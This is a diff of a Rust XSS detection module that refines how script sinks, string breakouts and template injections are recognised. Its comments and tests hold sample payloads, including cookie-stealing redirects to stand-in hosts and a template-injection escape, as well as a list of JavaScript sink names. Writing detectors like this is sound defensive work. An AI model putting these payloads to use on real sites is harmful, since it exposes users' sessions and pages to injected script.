@@ -80,8 +80,17 @@ fn direct_sink(name: &[u8]) -> bool {
     let lower: Vec<u8> = name.iter().map(u8::to_ascii_lowercase).collect();
     matches!(
         &lower[..],
-        b"alert" | b"prompt" | b"confirm" | b"eval" | b"settimeout" | b"setinterval" | b"fetch"
-            | b"execscript" | b"msgbox" | b"atob" | b"import"
+        b"alert"
+            | b"prompt"
+            | b"confirm"
+            | b"eval"
+            | b"settimeout"
+            | b"setinterval"
+            | b"fetch"
+            | b"execscript"
+            | b"msgbox"
+            | b"atob"
+            | b"import"
     )
 }
 
@@ -175,8 +184,8 @@ pub fn string_breakout(s: &str) -> bool {
         let mut saw_sep = false;
         while j < b.len() && seps < 8 {
             match b[j] {
-                b';' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b',' | b'?' | b':'
-                | b'<' | b'>' | b'=' | b'!' | b'~' | b'\n' => saw_sep = true,
+                b';' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b',' | b'?'
+                | b':' | b'<' | b'>' | b'=' | b'!' | b'~' | b'\n' => saw_sep = true,
                 b')' | b'}' | b']' => {}
                 b' ' | b'\t' | b'\r' => {}
                 _ => break,
@@ -227,9 +236,20 @@ fn code_mentions_sink(b: &[u8]) -> bool {
         if matches!(next, Some(b'(' | b'`')) {
             return true;
         }
-        let prev = b[..st].iter().rev().find(|c| !c.is_ascii_whitespace()).copied();
-        if matches!(prev, Some(b'=' | b'(' | b',')) && matches!(next, Some(b';' | b',' | b')')) {
+        let prev_at = b[..st].iter().rposition(|c| !c.is_ascii_whitespace());
+        let prev = prev_at.map(|p| b[p]);
+        if matches!(prev, Some(b'=' | b',')) && matches!(next, Some(b';' | b',' | b')')) {
             return true;
+        }
+        if prev == Some(b'(') && next == Some(b')') {
+            // `(alert)(1)` or `.find(alert)`; not prose "(alert)"
+            let after = b.get(i + 1).copied();
+            let before_paren = prev_at.and_then(|p| p.checked_sub(1)).map(|p| b[p]);
+            if matches!(after, Some(b'(' | b'`'))
+                || before_paren.is_some_and(|c| is_ident(c) || c == b']' || c == b')')
+            {
+                return true;
+            }
         }
     }
     false
@@ -238,14 +258,19 @@ fn code_mentions_sink(b: &[u8]) -> bool {
 /// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
 /// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
 pub fn sink_call(s: &str) -> bool {
-    let t = s.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == ';' || c == '(');
+    let t = s.trim_start_matches(|c: char| {
+        c.is_ascii_whitespace()
+            || matches!(c, ';' | '(' | '+' | '-' | '!' | '~' | '*' | '|' | '&' | ',')
+    });
     let b = t.as_bytes();
-    // `A=alert;A(1)`, `$$$=eval,$$$(…)`: a sink bound to a name and called later
-    if b.contains(&b'=') && b.contains(&b'(') && code_mentions_sink(b) {
-        let bound = b.windows(2).any(|w| w[0] == b'=' && is_ident_start(w[1]));
-        if bound {
-            return true;
-        }
+    // `A=alert;A(1)`, `(alert)(1)`, `[1].find(alert)`, `a{b:`…alert(1)…`}`: a sink
+    // called, bound or passed in code (the value has code punctuation around it)
+    let code_like = b.iter().any(|&c| matches!(c, b';' | b'{' | b'}' | b'`' | b'[' | b'='))
+        || memchr::memmem::find(b, b")(").is_some()
+        // `with(location)with(hash)eval(…)`: a call right after a parenthesis
+        || b.windows(2).any(|w| w[0] == b')' && is_ident_start(w[1]));
+    if code_like && code_mentions_sink(b) {
+        return true;
     }
     let Some((any_sink, direct, member, e)) = chain(b, 0) else {
         return false;
@@ -254,7 +279,11 @@ pub fn sink_call(s: &str) -> bool {
         return false;
     }
     let e2 = skip_ws(b, e);
-    let ok_shape = if direct { b.get(e2).is_some_and(|&c| c == b'(' || c == b'`') && e2 == e } else { member };
+    let ok_shape = if direct {
+        b.get(e2).is_some_and(|&c| c == b'(' || c == b'`') && e2 == e
+    } else {
+        member
+    };
     ok_shape && call_or_assign(b, e2)
 }
 
@@ -268,8 +297,17 @@ pub fn template_injection(s: &str) -> bool {
     let body = &b[open + 2..body_end];
     let lower: Vec<u8> = body.iter().take(512).map(u8::to_ascii_lowercase).collect();
     let has = |n: &[u8]| memchr::memmem::find(&lower, n).is_some();
-    has(b"constructor") || has(b"$eval") || has(b"$on") || has(b"alert(") || has(b"__proto__")
-        || (has(b"(") && (has(b"tostring") || has(b"charat") || has(b"fromcharcode") || has(b"window") || has(b"document")))
+    has(b"constructor")
+        || has(b"$eval")
+        || has(b"$on")
+        || has(b"alert(")
+        || has(b"__proto__")
+        || (has(b"(")
+            && (has(b"tostring")
+                || has(b"charat")
+                || has(b"fromcharcode")
+                || has(b"window")
+                || has(b"document")))
 }
 
 #[cfg(test)]
@@ -294,7 +332,9 @@ mod tests {
         assert!(sink_call("document.location='http://x/?'+document.cookie"));
         assert!(!sink_call("Alert (red) level"));
         assert!(!sink_call("window cleaning"));
-        assert!(template_injection("{{constructor.constructor('alert(1)')()}}"));
+        assert!(template_injection(
+            "{{constructor.constructor('alert(1)')()}}"
+        ));
         assert!(!template_injection("{{ name }}"));
     }
 }
